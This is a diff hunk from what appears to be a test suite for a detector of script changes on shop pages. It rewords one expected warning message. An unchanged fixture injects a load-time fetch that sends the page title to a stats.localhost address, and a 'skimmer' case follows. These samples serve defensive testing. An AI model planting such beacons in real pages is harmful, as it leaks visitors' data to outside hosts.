@@ -97,7 +97,7 @@ const changes: [name: string, before: (port: number) => ShopPage, after: (port: 
     'listener',
     () => withFile(calm),
     (port) => withFile(`${calm};addEventListener('load', function () { fetch('http://stats.localhost:${port}/k?' + document.title) })`),
-    /^Script gained a capability: .*app\.js/,
+    /^Script gained a new capability: .*app\.js/,
   ],
   [
     'skimmer',
